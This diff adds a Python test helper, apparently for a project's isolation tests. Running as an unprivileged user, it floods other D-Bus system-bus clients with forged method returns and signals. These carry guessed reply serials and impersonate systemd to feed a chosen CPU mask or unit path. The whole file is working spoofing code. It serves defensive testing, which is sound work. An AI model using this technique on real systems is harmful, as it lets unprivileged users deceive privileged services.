@@ -1,0 +1,138 @@
+"""Run inside the VM as ``nobody``: answer for systemd on other peers'
+connections to the system bus (issue 40, H-1).
+
+    python3 forger.py SOCKET SECONDS MASK_HEX
+
+The attacker of ``tests/functional/isolation/test_forged_replies.py``
+(``ATTACKER``), on the VM's real system bus. Unique names are public
+(``ListNames``, and the bus's ``NameOwnerChanged`` signal names each new
+connection at once) and serials predictable (1, 2, 3... on each
+connection; the agent says Hello, then asks LoadUnit and Get three
+times, unit after unit). So each client connection (a unique name that
+owns no well-known name: not systemd, logind or machined) gets, as soon
+as it appears, signals and method returns carrying reply serials 1-79,
+each with the body the call of that serial awaits (a unit path for a
+LoadUnit, the CPU mask ``MASK_HEX`` for a Get: a guests' CPU), and every
+second serials 1-299 and another 300 of a window that moves up to 3,000
+(a long-lived connection, ``watch``, has used more). Debian's
+python3-jeepney; stdlib otherwise. Prints how many messages it sent when
+its time is up or on SIGTERM.
+"""
+
+import signal
+import sys
+import time
+
+import jeepney
+from jeepney import DBusAddress
+from jeepney import HeaderFields
+from jeepney.bus_messages import MatchRule
+from jeepney.bus_messages import message_bus
+from jeepney.io.blocking import open_dbus_connection
+
+PATH = '/org/freedesktop/systemd1/unit/system_2eslice'
+WINDOW = 300
+TOP = 3000
+
+
+class Forger:
+
+    def __init__(self, sock, mask):
+        self.sock = sock
+        self.mask = mask
+        self.sent = 0
+        self.window = WINDOW
+
+    def body(self, serial):
+        if serial == 1:
+            return 's', (':1.9999',)  # Hello's answer: a unique name
+        if serial % 4 == 2:
+            return 'o', (PATH,)
+        return 'v', (('ay', self.mask),)
+
+    def flood(self, conn, name, serials):
+        for serial in serials:
+            sig, value = self.body(serial)
+            for kind in ('signal', 'return'):
+                if kind == 'signal':
+                    msg = jeepney.new_signal(DBusAddress(
+                        '/org/example/Forger',
+                        interface='org.example.Forger'), 'Forged', sig,
+                        value)
+                else:
+                    call = jeepney.new_method_call(DBusAddress(
+                        '/', bus_name=name, interface='org.example.X'), 'X')
+                    call.header.serial = serial
+                    msg = jeepney.new_method_return(call, sig, value)
+                msg.header.fields[HeaderFields.destination] = name
+                msg.header.fields[HeaderFields.reply_serial] = serial
+                conn.send(msg)
+                self.sent += 1
+
+    def clients(self, conn):
+        """Unique names that own no well-known name, but ours."""
+        names = conn.send_and_get_reply(message_bus.ListNames(),
+                                        timeout=5).body[0]
+        owners = set()
+        for name in names:
+            if not name.startswith(':'):
+                try:
+                    owners.add(conn.send_and_get_reply(
+                        message_bus.GetNameOwner(name), timeout=5).body[0])
+                except (jeepney.DBusErrorResponse, ValueError, IndexError):
+                    pass  # it went away
+        return [n for n in names if n.startswith(':') and
+                n not in owners and n != conn.unique_name]
+
+    def round(self, conn):
+        serials = list(range(1, WINDOW)) + list(range(
+            self.window, self.window + WINDOW))
+        self.window = self.window + WINDOW if \
+            self.window + WINDOW < TOP else WINDOW
+        for name in self.clients(conn):
+            self.flood(conn, name, serials)
+
+    def run(self, seconds):
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            try:
+                conn = open_dbus_connection('unix:path=' + self.sock,
+                                            auth_timeout=10)
+                conn.send_and_get_reply(message_bus.AddMatch(MatchRule(
+                    type='signal', sender='org.freedesktop.DBus',
+                    interface='org.freedesktop.DBus',
+                    member='NameOwnerChanged')), timeout=10)
+                again = 0.0
+                while time.monotonic() < end:
+                    if time.monotonic() >= again:
+                        self.round(conn)
+                        again = time.monotonic() + 1.0
+                    try:
+                        msg = conn.receive(timeout=0.05)
+                    except TimeoutError:
+                        continue
+                    if msg.header.fields.get(HeaderFields.member) == \
+                            'NameOwnerChanged':
+                        name, old, new = msg.body
+                        if name == new and not old and \
+                                name != conn.unique_name:
+                            self.flood(conn, name, range(1, 80))
+            except (OSError, ValueError, TimeoutError,
+                    jeepney.DBusErrorResponse):
+                time.sleep(0.05)  # dropped by the bus: connect again
+
+
+def main(argv):
+    sock, seconds, mask = argv[0], float(argv[1]), bytes.fromhex(argv[2])
+    forger = Forger(sock, mask)
+
+    def done(*_args):
+        print('sent %d' % forger.sent, flush=True)
+        sys.exit(0)
+    signal.signal(signal.SIGTERM, done)
+    forger.run(seconds)
+    done()
+
+
+if __name__ == '__main__':
+    main(sys.argv[1:])
